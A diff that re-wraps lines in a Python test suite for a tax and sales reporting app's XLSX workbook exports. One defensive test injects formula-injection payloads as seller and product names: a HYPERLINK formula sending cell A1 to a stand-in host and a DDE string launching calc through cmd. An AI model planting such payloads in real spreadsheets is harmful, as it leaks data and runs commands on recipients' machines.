@@ -37,7 +37,9 @@ def tax_workbook(app):
     """The national tax statement workbook, requested by the OBR auditor."""
     client = app.test_client()
     login_as(client, "auditeur")
-    content = fetch_report(app, client, "auditeur", "recettes-fiscales", period=PERIOD, province="", format="xlsx")
+    content = fetch_report(
+        app, client, "auditeur", "recettes-fiscales", period=PERIOD, province="", format="xlsx"
+    )
     return load_workbook(BytesIO(content)), latest_archive(app, "auditeur")
 
 
@@ -86,7 +88,8 @@ def test_tax_workbook_seller_totals_equal_the_database_sums(tax_workbook, db_ses
     col = _header_index(ws)
     total = next(row for row in ws.iter_rows(min_row=2, values_only=True) if row[0] == "TOTAL")
     collected = db_session.scalar(
-        select(func.sum(m.Payment.tax_amount)).join(m.Order)
+        select(func.sum(m.Payment.tax_amount))
+        .join(m.Order)
         .where(*_period_filter(), m.Order.status != m.OrderStatus.CANCELLED)
     )
     gross, tax = sales_sums(db_session)
@@ -119,18 +122,36 @@ def test_every_data_sheet_freezes_its_header_and_has_an_autofilter(tax_workbook)
 
 def test_sales_workbook_province_sheet_sums_to_the_database_sums(app, client, db_session):
     login_as(client, "coord")
-    content = fetch_report(app, client, "coord", "ventes-mensuel", period=PERIOD, province=COORDINATOR_PROVINCE,
-                           format="xlsx")
+    content = fetch_report(
+        app,
+        client,
+        "coord",
+        "ventes-mensuel",
+        period=PERIOD,
+        province=COORDINATOR_PROVINCE,
+        format="xlsx",
+    )
     wb = load_workbook(BytesIO(content))
     rows = list(wb["Par province"].iter_rows(min_row=2, values_only=True))
-    assert (sum(r[1] for r in rows), sum(r[2] for r in rows)) == sales_sums(db_session, province_code=COORDINATOR_PROVINCE)
+    assert (sum(r[1] for r in rows), sum(r[2] for r in rows)) == sales_sums(
+        db_session, province_code=COORDINATOR_PROVINCE
+    )
     assert {"Chiffres clés", "Par filière", "Meilleurs vendeurs", "Mévente"} <= set(wb.sheetnames)
 
 
 def test_annual_tax_workbook_has_one_row_per_seller_summing_the_year(app, db_session, tmp_path):
     output = tmp_path / "annuel.xlsx"
     result = app.test_cli_runner().invoke(
-        args=["report", "recettes-fiscales", "--period", "2024", "--format", "xlsx", "--output", str(output)]
+        args=[
+            "report",
+            "recettes-fiscales",
+            "--period",
+            "2024",
+            "--format",
+            "xlsx",
+            "--output",
+            str(output),
+        ]
     )
     assert result.exit_code == 0, result.output
     ws = load_workbook(output)["Par vendeur"]
@@ -141,9 +162,13 @@ def test_annual_tax_workbook_has_one_row_per_seller_summing_the_year(app, db_ses
     assert len(sellers) == len(set(sellers)) > 0
     year = parse_period("2024")
     due = db_session.scalar(
-        select(func.sum(m.OrderLine.tax)).join(m.Order).where(
-            m.Order.placed_at >= year.utc_start, m.Order.placed_at < year.utc_end,
-            m.Order.status != m.OrderStatus.CANCELLED)
+        select(func.sum(m.OrderLine.tax))
+        .join(m.Order)
+        .where(
+            m.Order.placed_at >= year.utc_start,
+            m.Order.placed_at < year.utc_end,
+            m.Order.status != m.OrderStatus.CANCELLED,
+        )
     )
     assert rows[total_at][col["Taxe due"]] == due > 0
     assert all(row[col["Période"]] == "année 2024" for row in rows[:total_at])
@@ -168,21 +193,32 @@ def test_ordinary_text_is_left_alone(text):
 def test_hostile_names_come_out_as_plain_text_never_formulas(app, client, db_session):
     """A seller or product named like a formula is written as text with a leading quote."""
     seller_id, product_id = db_session.execute(
-        select(m.Order.seller_id, m.OrderLine.product_id).join(m.OrderLine).where(*_period_filter()).limit(1)
+        select(m.Order.seller_id, m.OrderLine.product_id)
+        .join(m.OrderLine)
+        .where(*_period_filter())
+        .limit(1)
     ).one()
     hostile_seller = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")'
     hostile_product = "@SUM(1+1)*cmd|' /C calc'!A0"
-    db_session.execute(update(m.Cooperative).where(m.Cooperative.id == seller_id).values(name=hostile_seller))
-    db_session.execute(update(m.Product).where(m.Product.id == product_id).values(name=hostile_product))
+    db_session.execute(
+        update(m.Cooperative).where(m.Cooperative.id == seller_id).values(name=hostile_seller)
+    )
+    db_session.execute(
+        update(m.Product).where(m.Product.id == product_id).values(name=hostile_product)
+    )
     db_session.commit()
     login_as(client, "ministere")
-    content = fetch_report(app, client, "ministere", "recettes-fiscales", period=PERIOD, province="", format="xlsx")
+    content = fetch_report(
+        app, client, "ministere", "recettes-fiscales", period=PERIOD, province="", format="xlsx"
+    )
     wb = load_workbook(BytesIO(content))
     values = set()
     for ws in wb.worksheets:
         for row in ws.iter_rows():
             for cell in row:
-                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
+                assert cell.data_type != "f", (
+                    f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
+                )
                 values.add(cell.value)
     assert "'" + hostile_seller in values
     assert "'" + hostile_product in values
